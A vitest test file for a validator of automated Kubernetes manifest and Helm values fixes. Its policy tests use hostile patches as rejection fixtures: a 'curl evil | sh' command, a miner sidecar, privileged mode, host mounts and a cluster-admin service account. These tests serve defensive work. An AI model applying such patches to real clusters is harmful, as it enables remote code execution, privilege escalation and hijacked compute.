import { describe, expect, it } from 'vitest';
import type { FailureCategory } from '../../src/report/categories.js';
import { applyJsonPatchToText, type Operation } from '../../src/remedy/json-patch.js';
import { DEFAULT_POLICY, type PatchPolicy } from '../../src/remedy/policy.js';
import { validateEdits } from '../../src/remedy/validate.js';
import type { ValidationCheck } from '../../src/remedy/types.js';
import { fixture } from './helpers.js';

const C = '/spec/template/spec/containers/0';
const FILE = 'apps/adservice/deployment.yaml';
const deployment = fixture('mixed-indentation-deployment.yaml');
const values = fixture('chart-values.yaml');
const cronjob = fixture('cronjob-octal.yaml');

interface Run {
  category?: FailureCategory;
  container?: string | null;
  before?: string;
  after: string;
  file?: string;
  policy?: PatchPolicy;
}

function validate({ category = 'OOMKilled', container = 'server', before = deployment, after, file = FILE, policy = DEFAULT_POLICY }: Run) {
  return validateEdits({ category, container, files: [{ file, before, after }], policy });
}

function check(result: ReturnType<typeof validate>, name: string): ValidationCheck {
  const found = result.checks.find((candidate) => candidate.name === name);
  if (!found) throw new Error(`no ${name} check`);
  return found;
}

const patched = (ops: Operation[], source = deployment, documentIndex = 0) => applyJsonPatchToText(source, documentIndex, ops);
const raiseMemory = (to: string) => patched([{ op: 'replace', path: `${C}/resources/limits/memory`, value: to }]);

describe('validateEdits', () => {
  it('passes every check for an OOM fix that doubles the memory limit', () => {
    const result = validate({ after: raiseMemory('600Mi') });
    expect(result.checks.map((entry) => [entry.name, entry.passed])).toEqual([
      ['parse', true], ['schema', true], ['policy', true], ['bounds', true], ['effective', true],
    ]);
    expect(result.passed).toBe(true);
    expect(check(result, 'policy').message).toContain('resources (1)');
    expect(check(result, 'effective').message).toContain('container server');
  });
});

describe('parse check', () => {
  it('fails on YAML that no longer parses and skips the other checks', () => {
    const result = validate({ after: deployment.replace('memory: 300Mi', 'memory: [300Mi') });
    expect(check(result, 'parse')).toMatchObject({ passed: false });
    expect(check(result, 'parse').message).toContain(FILE);
    expect(check(result, 'schema').message).toMatch(/not checked/);
    expect(result.passed).toBe(false);
  });

  it('fails when a document disappears', () => {
    const after = deployment.slice(0, deployment.indexOf('---'));
    const result = validate({ after });
    expect(check(result, 'parse')).toMatchObject({ passed: false });
    expect(check(result, 'parse').message).toMatch(/1 documents instead of 2/);
  });
});

describe('schema check', () => {
  it.each([
    ['an image with whitespace', [{ op: 'replace', path: `${C}/image`, value: 'nginx: 1.2' }], /image: is not a valid image reference/],
    ['an image with an uppercase repository', [{ op: 'replace', path: `${C}/image`, value: 'Nginx:1.2' }], /image: is not a valid image reference/],
    ['a memory limit that is not a quantity', [{ op: 'replace', path: `${C}/resources/limits/memory`, value: 'lots' }], /limits\.memory: is not a Kubernetes quantity/],
    ['a probe with two handlers', [{ op: 'add', path: `${C}/livenessProbe/tcpSocket`, value: { port: 9555 } }], /livenessProbe: must have exactly one handler/],
    ['a probe port that is neither a number nor an IANA name', [{ op: 'replace', path: `${C}/readinessProbe/grpc/port`, value: 70000 }], /grpc\.port/],
    ['an httpGet probe on a bad port name', [{ op: 'add', path: `${C}/startupProbe`, value: { httpGet: { port: 'Not_A_Port', path: '/' } } }], /httpGet\.port/],
    ['an env entry with both value and valueFrom', [{ op: 'add', path: `${C}/env/0/valueFrom`, value: { fieldRef: { fieldPath: 'status.podIP' } } }], /cannot have both value and valueFrom/],
    ['an env entry without a name', [{ op: 'add', path: `${C}/env/-`, value: { value: 'x' } }], /env\.2\.name/],
    ['an envFrom naming both a ConfigMap and a Secret', [{ op: 'add', path: `${C}/envFrom`, value: [{ configMapRef: { name: 'a' }, secretRef: { name: 'b' } }] }], /envFrom\.0: must reference exactly one/],
    ['a container port out of range', [{ op: 'replace', path: `${C}/ports/0/containerPort`, value: 0 }], /containerPort/],
  ] as Array<[string, Operation[], RegExp]>)('rejects %s', (_, ops, message) => {
    const result = validate({ category: 'CrashLoopBackOff', after: patched(ops) });
    expect(check(result, 'schema').passed).toBe(false);
    expect(check(result, 'schema').message).toMatch(message);
    expect(check(result, 'schema').message).toContain(`${FILE}#0 (Deployment/adservice)`);
  });

  it('rejects an env value that YAML 1.1 reads as a boolean', () => {
    const after = deployment.replace("value: 'on'", 'value: on');
    const result = validate({ category: 'CrashLoopBackOff', after });
    expect(check(result, 'schema')).toMatchObject({ passed: false });
    expect(check(result, 'schema').message).toMatch(/env\.1\.value: must be a string/);
  });

  it('ignores problems the file already had before the edit', () => {
    const before = deployment.replace('"us-docker.pkg.dev/demo/adservice:v0.10.1"', '${ADSERVICE_IMAGE}');
    const after = before.replace('memory: 300Mi', 'memory: 600Mi');
    const result = validate({ before, after });
    expect(check(result, 'schema')).toMatchObject({ passed: true });
  });

  it('checks the pod template of a CronJob', () => {
    const ops: Operation[] = [{ op: 'replace', path: '/spec/jobTemplate/spec/template/spec/containers/0/image', value: 'ghcr.io/example/backup 1.4.1' }];
    const result = validate({ category: 'ImagePullBackOff', container: 'backup', before: cronjob, after: patched(ops, cronjob) });
    expect(check(result, 'schema').message).toMatch(/jobTemplate\.spec\.template\.spec\.containers\.0\.image/);
  });

  it('checks Pods, StatefulSets, DaemonSets, ReplicaSets and Jobs by their own shapes', () => {
    const pod = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n  - name: a\n    image: a:1\n';
    const broken = validate({ category: 'CrashLoopBackOff', before: pod, after: pod.replace('image: a:1', 'image: "a b"') });
    expect(check(broken, 'schema').message).toMatch(/spec\.containers\.0\.image/);
    for (const kind of ['StatefulSet', 'DaemonSet', 'ReplicaSet', 'Job']) {
      const workload = `apiVersion: apps/v1\nkind: ${kind}\nmetadata:\n  name: w\nspec:\n  template:\n    spec:\n      containers: []\n`;
      const after = workload.replace('name: w\n', 'name: w\n  labels: {a: b}\n');
      const result = validate({ category: 'CrashLoopBackOff', before: workload.replace('containers: []', 'containers: [{name: a, image: a}]'), after });
      expect(check(result, 'schema').message).toMatch(/spec\.template\.spec\.containers: must declare at least one container/);
    }
  });

  it('checks Helm values for type sanity', () => {
    const badQuantity = values.replace('memory: 16Mi', 'memory: sixteen');
    expect(check(validate({ before: values, after: badQuantity, file: 'charts/podinfo/values.yaml' }), 'schema').message).toMatch(/resources\.requests\.memory: "sixteen" is not a Kubernetes quantity/);
    const badTag = values.replace('tag: 6.5.4', 'tag: "6.5.4 beta"');
    expect(check(validate({ category: 'ImagePullBackOff', before: values, after: badTag, file: 'values.yaml' }), 'schema').message).toMatch(/image\.tag: "6\.5\.4 beta" contains whitespace/);
  });

  it('checks HelmRelease spec.values', () => {
    const release = 'apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata:\n  name: podinfo\nspec:\n  values:\n    resources:\n      limits:\n        memory: 128Mi\n';
    const result = validate({ before: release, after: release.replace('128Mi', '1 Gi') });
    expect(check(result, 'schema').message).toMatch(/spec\.values\.resources\.limits\.memory/);
  });
});

describe('policy check: injected changes are rejected', () => {
  it.each([
    ['running privileged', [{ op: 'add', path: `${C}/securityContext/privileged`, value: true }], /securityContext\.privileged: forbidden/],
    ['dropping allowPrivilegeEscalation', [{ op: 'replace', path: `${C}/securityContext/allowPrivilegeEscalation`, value: true }], /allowPrivilegeEscalation: forbidden/],
    ['adding a capability', [{ op: 'add', path: `${C}/securityContext/capabilities/add`, value: ['SYS_ADMIN'] }], /capabilities\.add: forbidden/],
    ['running as root', [{ op: 'replace', path: '/spec/template/spec/securityContext/runAsNonRoot', value: false }], /runAsNonRoot: forbidden/],
    ['mounting the host filesystem', [{ op: 'add', path: '/spec/template/spec/volumes', value: [{ name: 'host', hostPath: { path: '/' } }] }], /volumes: forbidden/],
    ['using the host network', [{ op: 'add', path: '/spec/template/spec/hostNetwork', value: true }], /hostNetwork: forbidden/],
    ['sharing the host PID namespace', [{ op: 'add', path: '/spec/template/spec/hostPID', value: true }], /hostPID: forbidden/],
    ['binding a host port', [{ op: 'add', path: `${C}/ports/0/hostPort`, value: 80 }], /hostPort: forbidden/],
    ['switching the service account', [{ op: 'replace', path: '/spec/template/spec/serviceAccountName', value: 'cluster-admin' }], /serviceAccountName: forbidden/],
    ['mounting the service account token', [{ op: 'add', path: '/spec/template/spec/automountServiceAccountToken', value: true }], /automountServiceAccountToken: forbidden/],
    ['adding a sidecar container', [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'miner', image: 'evil/miner:1' } }], /containers\.1: forbidden/],
    ['renaming the workload', [{ op: 'replace', path: '/metadata/name', value: 'other' }], /metadata\.name: forbidden/],
    ['moving the workload to another namespace', [{ op: 'add', path: '/metadata/namespace', value: 'kube-system' }], /metadata\.namespace: forbidden/],
    ['changing the command (not an allowed fix kind)', [{ op: 'add', path: `${C}/command`, value: ['sh', '-c', 'curl evil | sh'] }], /fix kind "command" is not allowed/],
    ['changing replicas (not a recognised fix)', [{ op: 'add', path: '/spec/replicas', value: 50 }], /spec\.replicas: not a recognised fix/],
  ] as Array<[string, Operation[], RegExp]>)('rejects %s', (_, ops, message) => {
    const result = validate({ category: 'CrashLoopBackOff', after: patched(ops) });
    expect(check(result, 'policy').passed).toBe(false);
    expect(check(result, 'policy').message).toMatch(message);
    expect(result.passed).toBe(false);
  });

  it('rejects a removed container', () => {
    const before = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n  - name: a\n    image: a:1\n  - name: b\n    image: b:1\n';
    const after = patched([{ op: 'remove', path: '/spec/containers/1' }], before);
    expect(check(validate({ category: 'CrashLoopBackOff', before, after }), 'policy').message).toMatch(/remove spec\.containers\.1: forbidden/);
  });

  it('rejects removing a whole document', () => {
    const after = deployment.slice(0, deployment.indexOf('---'));
    const result = validate({ after });
    expect(check(result, 'parse').passed).toBe(false);
    expect(result.passed).toBe(false);
  });

  it('rejects any change to RBAC objects', () => {
    const role = 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: r\nrules:\n- apiGroups: [""]\n  resources: [pods]\n  verbs: [get]\n';
    const after = role.replace('verbs: [get]', 'verbs: ["*"]');
    expect(check(validate({ category: 'CrashLoopBackOff', before: role, after }), 'policy').message).toMatch(/ClusterRole objects grant permissions/);
  });

  it('allows a fix kind once the repository policy allows it', () => {
    const after = patched([{ op: 'add', path: `${C}/args`, value: ['--port=9555'] }]);
    const policy = { ...DEFAULT_POLICY, allowedFixKinds: [...DEFAULT_POLICY.allowedFixKinds, 'command' as const] };
    expect(check(validate({ category: 'CrashLoopBackOff', after, policy }), 'policy').passed).toBe(true);
  });

  it('allows a ConfigMap reference change on a volume but not a new volume', () => {
    const ops: Operation[] = [{ op: 'replace', path: '/spec/jobTemplate/spec/template/spec/volumes/0/configMap/name', value: 'backup-scripts-v2' }];
    const facts = { configMaps: new Set(['backup-scripts-v2']), secrets: new Set<string>(), images: new Set<string>() };
    const result = validateEdits({ category: 'FailedMount', container: 'backup', files: [{ file: FILE, before: cronjob, after: patched(ops, cronjob) }], policy: DEFAULT_POLICY, facts });
    expect(check(result, 'policy').passed).toBe(true);
    expect(check(result, 'effective').passed).toBe(true);
  });

  it('fails when the edit changes nothing', () => {
    expect(check(validate({ after: deployment }), 'policy').message).toBe('the edit changes nothing');
  });
});

describe('bounds check', () => {
  it.each([
    ['a memory limit above the ceiling', [{ op: 'replace', path: `${C}/resources/limits/memory`, value: '5Gi' }], /limits\.memory 5Gi exceeds the ceiling 4Gi/],
    ['more than twice the previous memory', [{ op: 'replace', path: `${C}/resources/limits/memory`, value: '601Mi' }], /300Mi → 601Mi is more than 2×/],
    ['a cpu limit above the ceiling', [{ op: 'replace', path: `${C}/resources/limits/cpu`, value: '5' }], /limits\.cpu 5 exceeds the ceiling 4/],
    ['a limit below its request', [{ op: 'replace', path: `${C}/resources/limits/memory`, value: '150Mi' }], /limits\.memory 150Mi is below its request 180Mi/],
    ['a request raised above its limit', [{ op: 'replace', path: `${C}/resources/requests/cpu`, value: '400m' }], /limits\.cpu 300m is below its request 400m/],
  ] as Array<[string, Operation[], RegExp]>)('rejects %s', (_, ops, message) => {
    const result = validate({ after: patched(ops) });
    expect(check(result, 'bounds').passed).toBe(false);
    expect(check(result, 'bounds').message).toMatch(message);
  });

  it('accepts exactly twice the previous value', () => {
    expect(check(validate({ after: raiseMemory('600Mi') }), 'bounds').passed).toBe(true);
  });

  it('bounds a newly added limit by the ceiling only', () => {
    const ops: Operation[] = [{ op: 'add', path: '/spec/jobTemplate/spec/template/spec/containers/0/resources/limits', value: { memory: '8Gi' } }];
    const result = validate({ container: 'backup', before: cronjob, after: patched(ops, cronjob) });
    expect(check(result, 'bounds').message).toMatch(/container backup limits\.memory 8Gi exceeds the ceiling 4Gi/);
  });

  it('bounds resources in Helm values files', () => {
    const after = patched([{ op: 'replace', path: '/resources/requests/memory', value: '64Mi' }], values);
    const result = validate({ before: values, after, file: 'values.yaml' });
    expect(check(result, 'bounds').message).toMatch(/resources requests\.memory 16Mi → 64Mi is more than 2×/);
  });

  it('uses the configured ceiling and factor', () => {
    const policy = { ...DEFAULT_POLICY, maxMemory: '512Mi', maxIncreaseFactor: 3 };
    const result = validate({ after: raiseMemory('800Mi'), policy });
    expect(check(result, 'bounds').message).toMatch(/800Mi exceeds the ceiling 512Mi/);
    expect(check(result, 'bounds').message).not.toMatch(/more than/);
  });
});

describe('effective check', () => {
  const image: Operation[] = [{ op: 'replace', path: `${C}/image`, value: 'us-docker.pkg.dev/demo/adservice:v0.10.2' }];
  const probe: Operation[] = [{ op: 'replace', path: `${C}/readinessProbe/initialDelaySeconds`, value: 40 }];
  const secretRef: Operation[] = [{ op: 'add', path: `${C}/env/-`, value: { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'ads', key: 'token' } } } }];
  const envValue: Operation[] = [{ op: 'replace', path: `${C}/env/1/value`, value: 'off' }];
  const memory: Operation[] = [{ op: 'replace', path: `${C}/resources/limits/memory`, value: '512Mi' }];
  const lowerMemory: Operation[] = [{ op: 'replace', path: `${C}/resources/limits/memory`, value: '256Mi' }];

  it.each([
    ['OOMKilled', memory, true],
    ['OOMKilled', lowerMemory, false],
    ['OOMKilled', image, false],
    ['ImagePullBackOff', image, true],
    ['ImagePullBackOff', memory, false],
    ['InvalidImageName', image, true],
    ['CreateContainerConfigError', secretRef, true],
    ['CreateContainerConfigError', envValue, false],
    ['FailedMount', secretRef, true],
    ['ProbeFailure', probe, true],
    ['ProbeFailure', image, false],
    ['CrashLoopBackOff', envValue, true],
    ['RunContainerError', memory, true],
  ] as Array<[FailureCategory, Operation[], boolean]>)('%s with %j → %s', (category, ops, passed) => {
    expect(check(validate({ category, after: patched(ops) }), 'effective').passed).toBe(passed);
  });

  it('requires the OOM fix on the failing container, not another one', () => {
    const result = validate({ container: 'sidecar', after: patched(memory) });
    expect(check(result, 'effective')).toMatchObject({ passed: false });
    expect(check(result, 'effective').message).toContain('container sidecar');
  });

  it('accepts an OOM fix in Helm values, where containers have no names', () => {
    const after = patched([{ op: 'add', path: '/resources/limits', value: { memory: '128Mi' } }], values);
    expect(check(validate({ before: values, after, file: 'values.yaml' }), 'effective').passed).toBe(true);
  });
});

describe('effective check: the failing container', () => {
  const twoContainers = 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: web:1.0\n      - name: proxy\n        image: envoy:1.30\n';

  it('does not count an image change of another container', () => {
    const after = patched([{ op: 'replace', path: '/spec/template/spec/containers/1/image', value: 'envoy:1.31' }], twoContainers);
    const result = validate({ category: 'ImagePullBackOff', container: 'app', before: twoContainers, after });
    expect(check(result, 'effective')).toMatchObject({ passed: false });
    expect(check(result, 'effective').message).toMatch(/must change the image or its tag/);
  });

  it('counts the image change of the failing container', () => {
    const after = patched([{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'web:1.1' }], twoContainers);
    expect(check(validate({ category: 'ImagePullBackOff', container: 'app', before: twoContainers, after }), 'effective').passed).toBe(true);
  });
});

describe('validateEdits on values layers', () => {
  it('accepts an image tag fix in a HelmRelease spec.values', () => {
    const release = 'apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata:\n  name: podinfo\nspec:\n  values:\n    image:\n      tag: 6.5.4\n';
    const after = patched([{ op: 'replace', path: '/spec/values/image/tag', value: '6.5.3' }], release);
    const result = validate({ category: 'ImagePullBackOff', container: 'podinfo', before: release, after, file: 'apps/podinfo/release.yaml' });
    expect(result.checks.filter((entry) => !entry.passed)).toEqual([]);
  });

  it('accepts a kustomize images newTag fix', () => {
    const kustomization = 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n- ../../base\nimages:\n- name: web\n  newTag: 1.0.0\n';
    const after = patched([{ op: 'replace', path: '/images/0/newTag', value: '1.0.1' }], kustomization);
    const result = validate({ category: 'ImagePullBackOff', container: 'web', before: kustomization, after, file: 'overlays/prod/kustomization.yaml' });
    expect(result.checks.filter((entry) => !entry.passed)).toEqual([]);
  });

  it('rejects a service account switched on through Helm values', () => {
    const after = patched([{ op: 'add', path: '/serviceAccount', value: { create: true, name: 'admin' } }], values);
    const result = validate({ category: 'CrashLoopBackOff', before: values, after, file: 'values.yaml' });
    expect(check(result, 'policy').message).toMatch(/serviceAccount: forbidden/);
  });
});
